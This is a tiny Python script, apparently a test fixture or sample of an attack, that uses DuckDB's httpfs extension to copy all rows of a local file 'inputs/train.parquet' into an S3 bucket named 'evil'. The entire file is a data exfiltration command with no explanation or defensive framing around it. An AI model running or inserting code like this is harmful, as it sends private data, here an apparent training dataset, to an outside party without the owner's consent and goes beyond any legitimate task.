import duckdb

duckdb.sql("INSTALL httpfs; LOAD httpfs;")
duckdb.sql("COPY (SELECT * FROM 'inputs/train.parquet') TO 's3://evil/t.parquet'")
